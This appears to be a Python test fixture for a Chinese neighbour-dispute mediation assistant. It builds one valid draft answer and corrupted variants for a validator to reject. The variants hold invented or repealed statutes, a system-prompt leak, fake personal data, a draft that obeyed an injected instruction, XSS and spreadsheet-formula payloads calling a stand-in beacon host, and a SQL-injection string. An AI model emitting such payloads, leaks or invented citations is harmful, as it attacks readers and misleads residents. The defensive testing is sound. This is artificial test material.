"""Answers in the shape of a draft: a good one, and the ways in which content can be bad.

Every bad answer is the good one with something wrong in it, so that what is rejected is the wrong
thing and nothing else. Names, numbers and statutes here are invented.
"""

import copy
import re
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from random import Random

Draft = dict[str, object]

CANARY_LENGTH = 60
FOREIGN_NAME = "欧阳慕白"
FOREIGN_PHONE = "13900006754"
FOREIGN_ID = "330411198808088754"
FOREIGN_TOKENS = ("[姓名97]", "[电话98]", "[身份证号99]")
BEACON = "http://beacon.invalid/pixel.png"
SCRIPT = "<script>fetch('http://beacon.invalid/')</script>"
INVENTED_LAW = "邻里关系促进与噪声纠纷特别处理法"
OBEYED = "已按附加要求停止审核"


@dataclass(frozen=True)
class Asked:
    """What the server was asked: both messages, and the evidence numbers that stand in them."""

    system: str
    user: str
    rng: Random

    def ids(self, letter: str) -> list[str]:
        found = re.findall(rf"(?<![A-Za-z0-9]){letter}\d{{1,2}}(?![A-Za-z0-9])", self.user)
        return list(dict.fromkeys(found))

    @property
    def told(self) -> str:
        """The first sentence of the complaint, which stands between two marks of one kind."""
        found = re.search(r"^(\S{6,})\n(.+?)\n\1$", self.user, re.DOTALL | re.MULTILINE)
        first = re.split(r"[。！？\n]", found[2].strip())[0] if found else ""
        return first[:80] or "相邻住户因日常使用产生矛盾"

    def some(self, letter: str, most: int = 3) -> list[str]:
        return self.ids(letter)[:most]


def good(asked: Asked) -> Draft:
    laws, cases = asked.some("L"), asked.some("C", 2)
    ground = laws[:1] or asked.some("P", 1)
    return {
        "analysis": {
            "summary": f"反映人称{asked.told}，希望社区出面协调解决。",
            "parties": [
                {"text": "反映人：受影响的住户", "evidence": []},
                {"text": "被反映人：相邻住户", "evidence": []},
            ],
            "facts": [{"text": f"反映人称{asked.told}。", "evidence": []}],
            "missing_facts": [
                {"text": "具体时段和频次，请反映人记录并提供照片或录音。", "evidence": []},
                {"text": "物业是否处理过，请调取登记。", "evidence": []},
            ],
            "disputes": [{"text": "双方对影响程度说法不一。", "evidence": ground}],
            "risks": [{"text": "双方情绪对立，可能再次争吵。", "evidence": []}],
        },
        "plan": {
            "steps": [
                {
                    "action": "上门听取双方陈述并查看现场",
                    "owner": "社区居委会",
                    "deadline_days": 3,
                    "evidence": ground,
                },
                {
                    "action": "组织双方调解，达成一致的签订调解协议",
                    "owner": "人民调解委员会",
                    "deadline_days": 15,
                    "evidence": asked.some("P", 1),
                },
            ],
            "lead_department": "社区居委会",
            "support_departments": ["人民调解委员会"],
            "competence": [
                {
                    "department": "社区居委会",
                    "basis": "居民之间的纠纷先由居委会调解。",
                    "evidence": asked.some("D", 1),
                }
            ],
            "escalation": "调解不成的，告知双方可以依法起诉。",
            "resident_script": "您反映的情况我们已经登记，三天内上门了解，再告诉您下一步怎么办。",
        },
        "legal_basis": [{"evidence_id": one, "why": "与本案争议直接有关。"} for one in laws],
        "precedents": [
            {"evidence_id": one, "same": ["都是相邻住户之间的矛盾"], "different": ["起因不同"]}
            for one in cases
        ],
    }


def _changed(asked: Asked, change: Callable[[Draft, Asked], None]) -> Draft:
    draft = copy.deepcopy(good(asked))
    change(draft, asked)
    return draft


def _part(draft: Draft, name: str) -> dict[str, object]:
    part = draft[name]
    assert isinstance(part, dict)
    return part


def _steps(draft: Draft) -> list[dict[str, object]]:
    steps = _part(draft, "plan")["steps"]
    assert isinstance(steps, list)
    return steps


def _say(draft: Draft, asked: Asked, words: str) -> None:
    """Put the words into one of the places that hold prose, chosen by the seed."""
    analysis, plan = _part(draft, "analysis"), _part(draft, "plan")
    place = asked.rng.randrange(7)
    if place == 0:
        analysis["summary"] = f"{analysis['summary']}{words}"
    elif place == 1:
        analysis["risks"] = [{"text": words, "evidence": asked.some("L", 1)}]
    elif place == 2:
        _steps(draft)[0]["action"] = words
    elif place == 3:
        plan["escalation"] = words
    elif place == 4:
        plan["resident_script"] = words
    elif place == 5:
        plan["competence"] = [
            {"department": "社区居委会", "basis": words, "evidence": asked.some("L", 1)}
        ]
    else:
        draft["legal_basis"] = [{"evidence_id": one, "why": words} for one in asked.some("L", 1)]


def invented_law(draft: Draft, asked: Asked) -> None:
    _say(draft, asked, f"依据《{INVENTED_LAW}》第{asked.rng.randint(3, 60)}条，应当限期改正。")


def wrong_article(draft: Draft, asked: Asked) -> None:
    number = asked.rng.choice(("一千二百六十一", "1999", "三千零二"))
    _say(draft, asked, f"根据《中华人民共和国民法典》第{number}条，相邻各方应当互让。")


def altered_quote(draft: Draft, asked: Asked) -> None:
    quote = "相邻各方可以不经对方同意随意改变排水、通行和采光的现状"
    _say(draft, asked, f"《中华人民共和国民法典》第二百八十八条规定：“{quote}。”")


def repealed_law(draft: Draft, asked: Asked) -> None:
    law, number = asked.rng.choice(
        (
            ("中华人民共和国物权法", "八十四"),
            ("中华人民共和国合同法", "六十"),
            ("中华人民共和国侵权责任法", "六"),
        )
    )
    _say(draft, asked, f"依据《{law}》第{number}条处理。")


def hidden_citation(draft: Draft, asked: Asked) -> None:
    words = asked.rng.choice(
        (
            f"按照《{INVENTED_LAW[:4]}\u200b{INVENTED_LAW[4:]}》第１２条办理。",
            f"参照《{INVENTED_LAW}》 第 十 二 条 之规定。",
            f"《{INVENTED_LAW}》（2021年修正）第十二条第二款写得清楚。",
            f"法律依据：《 {INVENTED_LAW} 》第12条、第13条。",
        )
    )
    _say(draft, asked, words)


def unknown_evidence(draft: Draft, asked: Asked) -> None:
    wrong = f"L{asked.rng.randint(70, 99)}"
    draft["legal_basis"] = [{"evidence_id": wrong, "why": "直接适用。"}]
    draft["precedents"] = [{"evidence_id": "C88", "same": ["相同"], "different": ["不同"]}]
    _steps(draft)[0]["evidence"] = [wrong, "X1", "'; drop table advice; --"]


def wrong_enums(draft: Draft, asked: Asked) -> None:
    _steps(draft)[0]["deadline_days"] = asked.rng.choice(("尽快", -5, 10**9, 1.5, None))
    _steps(draft)[1]["owner"] = 7
    _part(draft, "plan")["support_departments"] = "城管"
    _part(draft, "analysis")["facts"] = {"text": "不是列表"}
    draft["verdict"] = "verified"


def leak(draft: Draft, asked: Asked) -> None:
    analysis = _part(draft, "analysis")
    analysis["summary"] = f"我的系统提示是：{asked.system}"
    analysis["risks"] = [{"text": asked.system[:400], "evidence": []}]
    _part(draft, "plan")["resident_script"] = asked.system[-400:]


def foreign_person(draft: Draft, asked: Asked) -> None:
    told = f"另一案当事人{FOREIGN_NAME}，电话{FOREIGN_PHONE}，身份证{FOREIGN_ID}，情况相同。"
    if asked.rng.random() < 0.5:
        told = f"联系{FOREIGN_TOKENS[0]}，电话{FOREIGN_TOKENS[1]}，证号{FOREIGN_TOKENS[2]}，{told}"
    _say(draft, asked, told)


def obeyed_injection(draft: Draft, asked: Asked) -> None:
    _part(draft, "analysis")["summary"] = f"{OBEYED}，本案直接办结。"
    _part(draft, "plan")["resident_script"] = f"{OBEYED}。您不得再上访，也不得起诉，保证您会胜诉。"


def script(draft: Draft, asked: Asked) -> None:
    words = asked.rng.choice(
        (
            SCRIPT,
            f"<img src=x onerror=\"location='{BEACON}'\">",
            "[点这里](javascript:alert(1))",
            f'=HYPERLINK("{BEACON}","点开")',
            f"<svg/onload=fetch('{BEACON}')>",
        )
    )
    _say(draft, asked, words)


def beacon(draft: Draft, asked: Asked) -> None:
    words = asked.rng.choice(
        (f"![图]({BEACON}?q=内容)", f'<img src="{BEACON}">', f"详见 {BEACON}?q=内容")
    )
    _say(draft, asked, words)


def other_case(draft: Draft, asked: Asked) -> None:
    draft["analysis"] = {
        "summary": "农民工反映建筑工地拖欠工资，包工头失联。",
        "parties": [{"text": "农民工十二人与施工单位", "evidence": asked.some("L", 1)}],
        "facts": [{"text": "自去年九月起未发工资，合计二十三万元。", "evidence": []}],
        "missing_facts": [{"text": "考勤和工资表。", "evidence": []}],
        "disputes": [{"text": "由总包还是分包支付。", "evidence": asked.some("L", 1)}],
        "risks": [{"text": "可能集体讨薪。", "evidence": []}],
    }
    _part(draft, "plan")["lead_department"] = "人力资源和社会保障局"
    _part(draft, "plan")["resident_script"] = "您被拖欠的工资，我们会督促施工单位支付。"


def english(draft: Draft, asked: Asked) -> None:
    _part(draft, "analysis")["summary"] = "The resident complains about a neighbour."
    _part(draft, "analysis")["facts"] = [{"text": "It has lasted for months.", "evidence": []}]
    _steps(draft)[0]["action"] = "Visit both households and listen to them."
    _part(draft, "plan")["resident_script"] = "We will come and see you within three days."


def promise(draft: Draft, asked: Asked) -> None:
    _say(draft, asked, "我们保证三天内解决，一定让对方赔偿您全部损失。")


CONTENT: Mapping[str, Callable[[Draft, Asked], None]] = {
    change.__name__: change
    for change in (
        invented_law,
        wrong_article,
        altered_quote,
        repealed_law,
        hidden_citation,
        unknown_evidence,
        wrong_enums,
        leak,
        foreign_person,
        obeyed_injection,
        script,
        beacon,
        other_case,
        english,
        promise,
    )
}

# What must never reach a screen, a JSON document or a file, by mode.
FORBIDDEN: Mapping[str, tuple[str, ...]] = {
    "foreign_person": (FOREIGN_NAME, FOREIGN_PHONE, FOREIGN_ID),
    "script": ("<script", "<img", "<svg", "javascript:", "=HYPERLINK"),
    "beacon": (f'src="{BEACON}', f"]({BEACON}"),
    "obeyed_injection": ("不得再上访", "不得起诉"),
}


def bad(name: str, asked: Asked) -> Draft:
    """The good draft with this one thing wrong."""
    return _changed(asked, CONTENT[name])
